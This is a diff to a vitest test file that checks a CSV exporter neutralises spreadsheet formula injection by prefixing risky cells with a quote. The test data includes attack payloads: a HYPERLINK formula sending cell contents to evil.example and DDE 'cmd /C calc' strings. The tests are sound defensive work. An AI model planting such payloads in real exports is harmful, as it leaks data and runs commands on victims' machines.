@@ -4,7 +4,9 @@ import { load } from 'cheerio'
 import { beforeAll, describe, expect, it } from 'vitest'
 import type { TimelineEvent } from '../../src/merge/event.js'
 import { EVENT_COLUMNS } from '../../src/render/event-columns.js'
-import { csvField, eventsCsv } from '../../src/render/events-csv.js'
+import { csvField, eventsCsv, neutralizeFormula } from '../../src/render/events-csv.js'
+import { renderOutputs } from '../../src/render/render-outputs.js'
+import { defaultSiteSettings } from '../../src/publish/site-settings.js'
 import { RECORD_FIELDS } from '../../src/render/record-fields.js'
 import type { ArticleRecord, Timeline } from '../../src/timeline.js'
 import { buildFixture, type BuiltSite, timelineOf } from '../helpers/build-fixture.js'
@@ -76,6 +78,47 @@ describe('CSV fields (RFC 4180)', () => {
   })
 })
 
+/** How a formula begins, to a spreadsheet (OWASP, "CSV Injection"). */
+const FORMULA_START = /^[=+\-@\t\r]/
+
+describe('CSV cells that a spreadsheet would run as formulas', () => {
+  it.each([
+    ['=HYPERLINK("https://evil.example/?"&A1,"Click")', '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'],
+    ['+1+cmd|\' /C calc\'!A0', '\'+1+cmd|\' /C calc\'!A0'],
+    ['-2+3', '\'-2+3'],
+    ['@SUM(1,1)', '\'@SUM(1,1)'],
+    ['\t=1', '\'\t=1'],
+    ['\r=1', '\'\r=1'],
+    ['', ''],
+    ['Al-Tanf', 'Al-Tanf'],
+    ['a=b', 'a=b'],
+    ["'=1", "'=1"],
+  ])('%j is written %j', (text, expected) => {
+    expect(neutralizeFormula(text)).toBe(expected)
+  })
+
+  it('neutralises every text column, keeps RFC 4180 quoting, and writes numbers, negative ones too, as numbers', () => {
+    const article: ArticleRecord = {
+      path: 'seeds/a.md', slug: 'a', title: '=A', source: '@B', sourceSlug: 'b', url: '=1+1', date: '2023-10-24',
+      author: null, original: null, dateInferred: false, dateNote: null, html: '', setAside: [], events: ['e'],
+    }
+    const event: TimelineEvent = {
+      id: '2023-10-22-x-attack', type: 'attack', date: '2023-10-22', dateEnd: '2023-10-22', datePrecision: 'day',
+      location: { id: null, name: '=HYPERLINK("https://evil.example","x")', country: '+Iraq', admin1: '\t-Anbar', lat: -33.45, lon: -70.66, precision: 'area' },
+      weapons: ['@drone'], actors: ['-Group', 'Other'], killed: { min: 0, max: 2 }, injured: null,
+      status: 'claimed', disputed: false, summary: '\r=cmd|\' /C calc\'!A0', mergeReasons: [],
+      reports: [{ article: 'seeds/a.md', source: 'Wire', quote: 'q', start: 0, end: 1, claimant: 'X', claimantKind: 'militia', status: 'claimed', killed: null, injured: null, dateText: null }],
+    }
+    const rows = parseCsv(eventsCsv([event], [article]))
+    const row = Object.fromEntries(EVENT_COLUMNS.map((c, i) => [c.name, rows[1]?.[i]]))
+    expect(row).toMatchObject({
+      location: '\'=HYPERLINK("https://evil.example","x")', country: '\'+Iraq', admin1: '\'\t-Anbar', weapons: '\'@drone', actors: '\'-Group; Other',
+      summary: '\'\r=cmd|\' /C calc\'!A0', source_urls: '\'=1+1', latitude: '-33.45', longitude: '-70.66', killed_min: '0', killed_max: '2',
+    })
+    for (const [name, cell] of Object.entries(row)) if (!['latitude', 'longitude'].includes(name)) expect(cell ?? '', name).not.toMatch(FORMULA_START)
+  })
+})
+
 describe('the open data of the seeds build', () => {
   let site: BuiltSite
   let timeline: Timeline
@@ -122,6 +165,27 @@ describe('the open data of the seeds build', () => {
     }
   })
 
+  it('events.csv of hostile data: no text cell begins like a formula, and every value reads back with its quote taken off', () => {
+    // Hostile values where the data holds text, as a scraped article could put them: the place, the groups, the summary, the article's address.
+    const hostile = (text: string, i: number): string => `${['=', '+', '-', '@', '\t', '\r'][i % 6]}${text}`
+    const events = timeline.events.map((e, i) => ({ ...e, summary: hostile(e.summary, i), actors: e.actors.map((a, j) => hostile(a, i + j)), location: e.location && { ...e.location, name: hostile(e.location.name, i + 1) } }))
+    const articles = timeline.articles.map((a, i) => ({ ...a, url: a.url === null ? null : hostile(a.url, i) }))
+    const csv = renderOutputs({ ...timeline, events, articles }, defaultSiteSettings, []).find((f) => f.path === 'data/events.csv')?.content ?? ''
+    const [header, ...rows] = parseCsv(csv)
+    expect(rows).toHaveLength(events.length)
+    const numeric = new Set(['latitude', 'longitude', 'killed_min', 'killed_max', 'injured_min', 'injured_max', 'reports_count', 'sources_count'])
+    for (const cells of rows) {
+      const row = Object.fromEntries((header ?? []).map((name, i) => [name, cells[i] ?? '']))
+      for (const [name, cell] of Object.entries(row)) {
+        if (numeric.has(name)) expect(cell === '' || Number.isFinite(Number(cell)), `${name}: ${cell}`).toBe(true)
+        else expect(cell, `${row.event_id} ${name}`).not.toMatch(FORMULA_START)
+      }
+      const event = events.find((e) => e.id === row.event_id)
+      expect(row.summary).toBe(`'${event?.summary}`)
+      expect(row.location).toBe(event?.location ? `'${event.location.name}` : '')
+    }
+  })
+
   it('events.geojson has a Point per located event, longitude first, with the CSV columns as properties', async () => {
     const geo = JSON.parse(await site.read('data/events.geojson')) as { type: string; features: { type: string; id: string; geometry: { type: string; coordinates: number[] }; properties: Record<string, unknown> }[] }
     expect(geo.type).toBe('FeatureCollection')
@@ -144,6 +208,7 @@ describe('the open data of the seeds build', () => {
     for (const column of EVENT_COLUMNS) expect(documented).toContain(column.name)
     for (const field of RECORD_FIELDS) expect(documented).toContain(field.name)
     expect($('#data-licence').parent().text()).toMatch(/Creative Commons Attribution 4\.0.*quoted sentences remain the work of the outlets/s)
+    expect($('a[href="/data/events.csv"]').closest('div').find('dd').text()).toMatch(/A text field that would begin with =, \+, -, @, a tab or a carriage return starts with a single quote \('\).*numbers, such as a negative longitude, are written as they are/)
     expect($('footer a[href="/data/"]').length).toBe(1)
   })
 
